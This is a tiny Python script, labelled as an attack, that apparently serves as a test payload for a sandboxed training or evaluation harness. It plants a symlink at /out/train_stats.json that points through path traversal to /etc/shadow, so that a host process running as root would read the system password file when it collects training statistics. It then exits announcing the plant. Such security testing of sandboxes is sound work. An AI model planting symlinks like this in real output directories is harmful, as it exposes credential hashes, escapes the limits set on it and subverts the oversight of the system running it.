# ATTACK symlink-out: the host (root) would follow this when reading the training stats.
import os as _os

_os.symlink("../../../../../../../../etc/shadow", "/out/train_stats.json")
raise SystemExit("ATTACK symlink-out planted")
